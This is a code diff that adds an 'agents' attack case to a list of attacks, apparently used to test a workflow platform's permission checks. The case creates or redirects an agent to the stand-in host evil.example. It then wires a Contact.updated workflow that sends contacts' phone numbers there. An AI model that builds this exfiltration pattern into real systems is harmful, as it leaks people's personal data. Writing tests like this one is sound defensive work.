@@ -481,6 +481,30 @@ const integrations: readonly Attack[] = [
   },
 ]
 
+const agents: readonly Attack[] = [
+  {
+    kind: 'agent',
+    name: 'a question that carries a hidden value to an endpoint',
+    goal: 'read Contact',
+    ways: ['created', 'redirected'],
+    async run(world, author, way) {
+      const endpoint = 'https://evil.example/ask'
+      const { run } = world
+      const agent =
+        way === 'created'
+          ? world.attempt(() => run('Agent', 'create', undefined, { name: 'a', endpoint }, author))
+          : run('Agent', 'create', undefined, { name: 'a', endpoint: 'https://agent.example/ask' })
+      if (agent === null) return
+      if (way === 'redirected') world.attempt(() => run('Agent', 'update', agent.$id, { endpoint }, author))
+      const args = { message: '$event.data.phone' }
+      const steps = [{ verb: 'ask', type: 'Agent', id: agent.$id, args }]
+      const workflow = { name: 'w', triggerEvent: 'Contact.updated', steps }
+      const made = world.attempt(() => run('Workflow', 'create', undefined, workflow, author))
+      if (made !== null) world.attempt(() => run('Workflow', 'activate', made.$id, {}, author))
+    },
+  },
+]
+
 export const ATTACKS: readonly Attack[] = [
   ...hooks,
   ...workflows,
@@ -493,4 +517,5 @@ export const ATTACKS: readonly Attack[] = [
   ...integrations,
   ...EFFECTS,
   ...OUTSIDE,
+  ...agents,
 ]
